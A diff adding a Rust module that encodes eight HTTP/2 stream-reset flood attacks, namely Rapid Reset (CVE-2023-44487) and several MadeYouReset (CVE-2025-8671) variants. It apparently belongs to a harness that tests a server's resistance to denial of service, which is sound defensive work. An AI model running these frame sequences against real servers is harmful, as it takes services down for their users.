@@ -1,0 +1,45 @@
+//! Streams that are opened in order to be reset: by the attacker, or by the server, which is made to.
+
+use super::attack::Attack;
+use super::frames::{DATA, ECHO, END_HEADERS, END_STREAM, HEADERS, PRIORITY, WIDEST, stream};
+
+pub(super) const ATTACKS: [Attack; 8] = [
+    // CVE-2023-44487
+    Attack::flood("rapid_reset", |frames, turn| {
+        frames.head(stream(turn), ECHO);
+        frames.reset(stream(turn));
+    }),
+    // Each costs the server a call, but not more than the call alone.
+    Attack::flood("reset_when_answered", |frames, turn| {
+        frames.call(stream(turn), ECHO);
+        frames.reset(stream(turn));
+    })
+    .opened_by(super::frames::Frames::open_windows)
+    .bounded(),
+    // CVE-2025-8671: each of these makes the server reset the stream.
+    Attack::flood("made_you_reset_window_zero", |frames, turn| {
+        frames.head(stream(turn), ECHO);
+        frames.window_update(stream(turn), 0);
+    }),
+    Attack::flood("made_you_reset_window_overflow", |frames, turn| {
+        frames.head(stream(turn), ECHO);
+        frames.window_update(stream(turn), WIDEST);
+    }),
+    Attack::flood("made_you_reset_half_closed", |frames, turn| {
+        frames.frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), ECHO);
+        frames.frame(DATA, 0, stream(turn), b"late");
+    }),
+    Attack::flood("made_you_reset_priority", |frames, turn| {
+        frames.head(stream(turn), ECHO);
+        let [a, b, c, d] = stream(turn).to_be_bytes();
+        frames.frame(PRIORITY, 0, stream(turn), &[a, b, c, d, 0]);
+    }),
+    Attack::flood("made_you_reset_content_length", |frames, turn| {
+        const TOO_SHORT: &[u8] = b"\x0f\x0d\x011";
+        frames.call(stream(turn), &[ECHO, TOO_SHORT].concat());
+    }),
+    // An interim response, which only servers send.
+    Attack::flood("made_you_reset_interim", |frames, turn| {
+        frames.head(stream(turn), b"\x08\x03103");
+    }),
+];
